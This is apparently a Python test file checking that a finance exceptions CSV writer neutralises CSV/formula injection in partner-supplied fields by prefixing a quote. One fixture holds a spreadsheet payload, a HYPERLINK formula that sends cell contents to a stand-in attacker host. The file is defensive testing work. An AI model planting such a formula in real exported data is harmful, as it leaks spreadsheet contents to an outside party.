"""What finance opens: exceptions.csv keeps a partner's text as text in a spreadsheet."""

import csv
from pathlib import Path
from zoneinfo import ZoneInfo

from hub.reconciliation.lines import SettlementLine
from hub.reconciliation.matcher import ExceptionLine
from hub.reconciliation.report import write_exceptions

WIB = ZoneInfo("Asia/Jakarta")


def _written(tmp_path: Path, line: SettlementLine) -> dict[str, str]:
    path = tmp_path / "exceptions.csv"
    exception = ExceptionLine(str(line.line_no), "missing_in_hub", line.reference, line)
    write_exceptions(path, [exception], WIB)
    (row,) = csv.DictReader(path.open(encoding="utf-8"))
    return row


def test_a_partners_text_that_a_spreadsheet_would_run_as_a_formula_is_written_inert(
    tmp_path: Path,
) -> None:
    # OWASP's CSV injection: a cell starting with = + - @ (or a tab or carriage return)
    # is a formula to Excel and LibreOffice; a quote in front keeps it text.
    line = SettlementLine(
        2,
        '=HYPERLINK("http://evil.example/?"&A1,"details")',
        16_800,
        nik="+6281234567890",
        payment_code="@SUM(1+1)",
        outlet="-2+3",
    )
    row = _written(tmp_path, line)
    assert row["reference"] == '\'=HYPERLINK("http://evil.example/?"&A1,"details")'
    assert row["nik"] == "'+6281234567890"
    assert row["payment_code"] == "'@SUM(1+1)"
    assert row["collected_by"] == "'-2+3"
    assert row["partner_amount"] == "16800"


def test_ordinary_references_and_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    line = SettlementLine(3, "IDM-0001", 16_800, nik="5171044508900001", outlet="TJKT01")
    row = _written(tmp_path, line)
    assert (row["reference"], row["nik"], row["collected_by"]) == (
        "IDM-0001",
        "5171044508900001",
        "TJKT01",
    )
